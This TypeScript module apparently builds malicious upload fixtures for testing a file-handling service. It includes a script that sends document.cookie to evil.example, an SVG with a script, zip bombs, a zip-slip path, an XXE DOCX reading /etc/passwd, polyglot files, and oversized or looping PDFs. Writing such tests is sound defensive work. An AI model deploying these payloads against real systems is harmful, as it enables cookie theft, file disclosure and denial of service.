import { concat, latin1, utf8 } from "./bytes.ts";
import type { Bytes } from "./bytes.ts";
import { docxEntries, file } from "./office.ts";
import { pdf } from "./pdf.ts";
import { zip } from "./zip.ts";

const MEGABYTE = 1024 * 1024;
const SCRIPT = "<script>fetch('https://evil.example/?c='+document.cookie)</script>";

/** A web page with a script; told to be `image/jpeg`, it must not be stored or served as a picture. */
export function html(): Bytes {
  return utf8(`<!doctype html><html><body>${SCRIPT}</body></html>`);
}

/** A picture format that can carry scripts. */
export function svgWithScript(): Bytes {
  return utf8(
    `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)"><script>alert(document.domain)</script></svg>`,
  );
}

/** A Word document of some 100 kB whose text unpacks to `megabytes`. */
export function zipBombDocx(megabytes = 100): Bytes {
  const filler = new Uint8Array(megabytes * MEGABYTE).fill(65);
  const [types, relations, document] = docxEntries("<w:p/>");
  return zip([types!, relations!, { name: document!.name, data: concat(document!.data, filler) }]);
}

/** Zips in zips, each ten copies of the next: small on disk, ten to the `depth` times as much inside. */
export function nestedZip(depth = 5): Bytes {
  let inner = zip([{ name: "0.txt", data: new Uint8Array(MEGABYTE) }]);
  for (let level = 0; level < depth; level++) {
    const data = inner;
    inner = zip(Array.from({ length: 10 }, (_, at) => ({ name: `${at}.zip`, data })));
  }
  return inner;
}

/** A zip whose entry would be written outside of the folder it is unpacked into. */
export function zipSlipDocx(): Bytes {
  return zip([...docxEntries("<w:p><w:r><w:t>innocuo</w:t></w:r></w:p>"), file("../../../../tmp/evil.xml", "<evil/>")]);
}

/** A Word document whose XML asks for a file of the server, and blows up entities if they are followed. */
export function entitiesDocx(): Bytes {
  const entities = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join("");
  const [types, relations] = docxEntries("");
  const doctype = `<!DOCTYPE d [<!ENTITY l0 "lol"><!ENTITY f SYSTEM "file:///etc/passwd">${entities}]>`;
  const body = `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&f;&l9;</w:t></w:r></w:p></w:body></w:document>`;
  return zip([types!, relations!, file("word/document.xml", doctype + body)]);
}

/** A PDF that a browser shows as a web page when it is allowed to guess. */
export function pdfHtmlPolyglot(): Bytes {
  return pdf([["Sembra un PDF"]], { before: `<!doctype html><body>${SCRIPT}</body><!-- ` });
}

/** A GIF that is also a script: `GIF89a=1;…` assigns a variable, the picture's data hides in a comment. */
export function gifJsPolyglot(): Bytes {
  const image = [0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0, 0x3b];
  return concat(
    "GIF89a",
    latin1("/*"),
    [1, 0, 0x80, 0, 0],
    [255, 255, 255, 0, 0, 0],
    [0x21, 0xfe],
    [15],
    "*/=1;alert(1)//",
    [0],
    image,
  );
}

/** A PDF with thousands of objects, or pages, for whoever walks through all of them. */
export function pdfManyObjects(objects = 60_000): Bytes {
  return pdf([["Una pagina sola"]], { padding: objects });
}

export function pdfManyPages(pages = 5000): Bytes {
  return pdf(Array.from({ length: pages }, (_, at) => [`Pagina ${at + 1}`]));
}

/** A PDF whose page tree leads back to itself. */
export function pdfLoop(): Bytes {
  const text = Buffer.from(pdf([["Gira"]])).toString("latin1");
  return latin1(text.replace("/Kids [4 0 R]", "/Kids [2 0 R]"));
}

/** The first half of a file. */
export function truncated(bytes: Uint8Array, part = 0.5): Bytes {
  return new Uint8Array(bytes.slice(0, Math.floor(bytes.length * part)));
}

/** A file that begins as it should and goes on for `megabytes` more: beyond WhatsApp's 16 MB unless told otherwise. */
export function oversized(beginning: Uint8Array, megabytes = 16): Bytes {
  return concat(beginning, new Uint8Array(megabytes * MEGABYTE));
}
